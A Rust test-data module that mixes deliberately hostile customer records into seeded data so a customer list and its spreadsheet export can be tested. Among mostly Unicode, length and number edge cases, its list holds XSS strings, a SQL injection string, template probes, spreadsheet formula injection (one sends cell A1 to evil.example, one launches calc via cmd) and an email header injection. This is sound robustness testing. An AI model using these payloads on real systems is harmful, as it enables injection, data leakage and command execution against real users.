//! Customers that try to break whoever shows them. All have "Hostile" in their last name, so that a
//! search finds them.

use super::NewCustomer;

/// What such a customer has in place of the plausible values. `None` and an empty text leave them.
#[derive(Debug)]
pub(super) struct Hostile {
    first: &'static str,
    last: &'static str,
    email: Option<&'static str>,
    phone: Option<&'static str>,
    customer_type: Option<&'static str>,
    status: Option<&'static str>,
    last_spent: Option<f64>,
    /// How many letters the last name is filled up to.
    length: usize,
}

const PLAIN: Hostile = Hostile {
    first: "",
    last: "Hostile",
    email: None,
    phone: None,
    customer_type: None,
    status: None,
    last_spent: None,
    length: 0,
};

const fn named(first: &'static str, last: &'static str) -> Hostile {
    Hostile { first, last, ..PLAIN }
}

const fn status(first: &'static str, status: &'static str) -> Hostile {
    Hostile { first, status: Some(status), ..PLAIN }
}

const fn kind(first: &'static str, customer_type: &'static str) -> Hostile {
    Hostile { first, customer_type: Some(customer_type), ..PLAIN }
}

const fn spent(first: &'static str, last_spent: f64) -> Hostile {
    Hostile { first, last_spent: Some(last_spent), ..PLAIN }
}

const fn mail(first: &'static str, email: &'static str) -> Hostile {
    Hostile { first, email: Some(email), ..PLAIN }
}

const fn phone(first: &'static str, phone: &'static str) -> Hostile {
    Hostile { first, phone: Some(phone), ..PLAIN }
}

const HOSTILE: &[Hostile] = &[
    // Markup and script.
    named("<script>window.pwned=1</script>", "Hostile"),
    named("<img src=x onerror=\"window.pwned=1\">", "Hostile"),
    named("\"><svg/onload=window.pwned=1>", "Hostile"),
    named("</td></tr></table><h1>Out</h1>", "Hostile <!-- "),
    named("{{7*7}} ${7*7} <%= 7*7 %>", "Hostile &amp;lt;b&gt;"),
    named("javascript:window.pwned=1", "Hostile"),
    named("'; DROP TABLE customers; --", "Hostile' OR '1'='1"),
    mail("Markup in the address", "\"<script>window.pwned=1</script>\"@example.com"),
    phone("Markup in the number", "<a href=\"javascript:window.pwned=1\">+1-555-0100</a>"),
    // Formulas, for what is exported to a spreadsheet.
    named("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "Hostile"),
    named("+1+1", "Hostile"),
    named("-2+3+cmd|' /C calc'!A0", "Hostile"),
    named("@SUM(1+1)*cmd", "Hostile"),
    named("\t=1+1", "Hostile\r\n=2+2"),
    named("comma, \"quote\"; semicolon", "Hostile\nsecond line"),
    phone("Formula as number", "=1+555-0100"),
    // Direction and invisible characters.
    named("\u{202E}gnp.eman\u{202C}", "Hostile"),
    named("\u{2067}שלום\u{2069} \u{2066}abc", "Hostile \u{202E}unclosed"),
    named("مرحبا بالعالم الطويل", "Hostile السلام"),
    named("Ze\u{200B}ro\u{200D}wid\u{FEFF}th", "Ho\u{AD}st\u{AD}ile Hostile"),
    named("\u{A0}\u{2003}\u{3000}", "Hostile"),
    named("", "Hostile"),
    named("NUL\u{0}inside", "Hostile\u{0}\u{1}\u{7F}\u{9F}"),
    named("\u{FFFD}\u{FFFE}\u{10FFFF}", "Hostile \u{E000}"),
    // Emoji, combining marks, width.
    named("👩🏽‍❤️‍💋‍👨🏿👨‍👩‍👧‍👦🏳️‍🌈🇩🇪", "Hostile 🧑🏾‍🦽‍➡️"),
    named("Z̷̧̨͈̝̟̪̘͍̋̏̓̈́̾͘͝a̸̢̛̺̤̣͌̿̐̓l̶͖̖̈́̔̾ğ̵̢̛͙̱̓̋̚͜ơ̵̭̠̲̈́̉̄", "Hostile H̷͈̜̐̿͠ë̶́ͅ c̵̨͝o̸̰͒m̷̮̈́e̶̥͑s̵̝̈"),
    named("﷽﷽﷽", "Hostile 𒐫𒐫𒈙"),
    named("e\u{301} and é", "Hostile \u{212B}ngstr\u{F6}m"),
    named("İIıi ẞß ΣσςΩ Ǆǅǆ", "Hostile ﬀﬁ"),
    Hostile { first: "Long", length: 10_000, ..PLAIN },
    Hostile {
        first: "The longest name that a form would take without a single blank between its letters",
        length: 255,
        ..PLAIN
    },
    mail(
        "A long address",
        "a-very-long-local-part-that-goes-on-and-on-until-nobody-can-read-it-in-a-column-any-more@a-very-long-domain-name-that-also-goes-on.example",
    ),
    mail("Unicode address", "ΟΔΟΣ.İstanbul.用户@παράδειγμα.example"),
    mail("Not an address", "not an address"),
    mail("Header in the address", "a@example.com?bcc=b@example.com&subject=x%0D%0A"),
    // Values that the contract's sets do not have.
    status("Deleted", "DELETED"),
    status("Deleted too", "DELETED"),
    status("Another status", "PENDING_REVIEW"),
    status("Status in small letters", "active"),
    status("Status with markup", "<b>ACTIVE</b>"),
    kind("No type", ""),
    kind(
        "A long type",
        "A customer type that nobody thought of when the column was made as narrow as it is, with a 🦄",
    ),
    kind("Type with markup", "<i>Enterprise</i>"),
    // Amounts.
    spent("Huge amount", 1.0e21),
    spent("Largest amount", f64::MAX),
    spent("Smallest amount", 5.0e-324),
    spent("More than a safe integer", 9_007_199_254_740_993.0),
    spent("Negative amount", -1_234.56),
    spent("Nothing", 0.0),
    spent("Minus nothing", -0.0),
    spent("A third of a cent", 0.003_333_333_333_333_333),
];

#[cfg(test)]
pub(super) fn count() -> usize {
    HOSTILE.len()
}

/// The hostile customer at a place in the list: evenly spread, and never more than one in twenty.
pub(super) fn at(index: u64, count: u64) -> Option<&'static Hostile> {
    let distance = (count / (HOSTILE.len() as u64 + 1)).max(20);
    if index % distance != distance - 1 {
        return None;
    }
    HOSTILE.get(usize::try_from(index / distance).ok()?)
}

impl Hostile {
    /// Takes the place of the plausible values.
    pub(super) fn apply(&self, customer: &mut NewCustomer) {
        self.first.clone_into(&mut customer.first_name);
        self.last.clone_into(&mut customer.last_name);
        let missing = self.length.saturating_sub(self.last.len());
        customer.last_name.extend("Wolfeschlegelsteinhausen".chars().cycle().take(missing));
        if let Some(email) = self.email {
            customer.email = Some(email.to_owned());
        }
        let replace = |value: Option<&str>, field: &mut String| {
            if let Some(value) = value {
                value.clone_into(field);
            }
        };
        replace(self.phone, &mut customer.phone_number);
        replace(self.customer_type, &mut customer.customer_type);
        replace(self.status, &mut customer.status);
        if let Some(amount) = self.last_spent {
            customer.last_spent = amount;
        }
    }
}
